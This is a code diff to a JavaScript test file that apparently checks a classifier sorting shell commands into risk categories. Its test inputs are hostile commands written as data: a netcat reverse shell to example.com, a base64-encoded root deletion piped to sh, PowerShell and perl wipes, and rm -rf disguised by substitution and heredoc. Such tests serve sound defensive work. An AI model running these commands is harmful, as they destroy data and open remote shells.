@@ -134,7 +134,8 @@ describe('compiled code', () => {
     expect(roomsFor('nc -e /bin/sh example.com 4444')).toEqual(['network']);
     expect(roomsFor('echo cm0gLXJmIC8= | base64 -d | sh')).toEqual(['starters', 'texts']);
     expect(roomsFor('powershell -c "Remove-Item -Recurse -Force C:\\"')).toEqual(['parser', 'windows']);
-    expect(roomsFor('rm -rf "$(echo /)"')).toEqual(['parser']);
+    expect(roomsFor('rm -rf "$(echo /)"')).toEqual([]);
+    expect(roomsFor("sh <<'E'\nrm -rf /\nE")).toEqual(['parser', 'starters']);
     expect(roomsFor('perl -e "unlink glob(\'/*\')"')).toEqual(['code']);
   });
 
